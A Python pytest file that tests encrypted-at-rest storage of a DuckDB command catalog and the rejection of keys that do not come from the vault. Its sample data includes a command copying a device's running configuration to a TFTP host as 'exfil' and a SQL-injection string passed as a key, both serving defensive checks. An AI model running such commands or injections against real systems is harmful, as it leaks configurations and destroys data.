"""The lead's DuckDB catalog opened encrypted with the vault's catalog key: command text stays
searchable in SQL and is still ciphertext on disk."""
from __future__ import annotations

from pathlib import Path

import duckdb
import pytest

from storage.vault import Vault, VaultError
from storage.vault.catalog_crypto import attach_encrypted

SECRET_COMMAND = "copy running-config tftp://10.9.0.1/exfil-7d1c.cfg"


def test_catalog_is_encrypted_at_rest_or_the_reason_is_one_clear_line(vault: Vault, tmp_path: Path) -> None:
    db = tmp_path / "catalog.duckdb"
    con = duckdb.connect()
    try:
        attach_encrypted(con, db, vault.catalog_key())
    except VaultError as err:
        msg = str(err)
        assert "httpfs" in msg and "\n" not in msg and not db.exists()
        pytest.skip(f"this DuckDB cannot write encrypted files: {msg}")
    con.execute("CREATE TABLE catalog.commands (session_id TEXT, text TEXT)")
    con.execute("INSERT INTO catalog.commands VALUES ('sess-1', ?)", [SECRET_COMMAND])
    con.close()
    for f in tmp_path.glob("catalog.duckdb*"):
        assert SECRET_COMMAND.encode() not in f.read_bytes()
        assert b"exfil-7d1c" not in f.read_bytes()

    con = duckdb.connect()
    attach_encrypted(con, db, vault.catalog_key())
    assert con.execute("SELECT text FROM catalog.commands WHERE text LIKE '%tftp%'").fetchall() == \
        [(SECRET_COMMAND,)]
    con.close()
    con = duckdb.connect()
    with pytest.raises(duckdb.Error):
        attach_encrypted(con, db, Vault.init(tmp_path / "other").catalog_key())
        con.execute("SELECT * FROM catalog.commands").fetchall()


def test_the_key_must_come_from_the_vault(tmp_path: Path) -> None:
    con = duckdb.connect()
    with pytest.raises(VaultError):
        attach_encrypted(con, tmp_path / "c.duckdb", "x' ; DROP TABLE y; --")
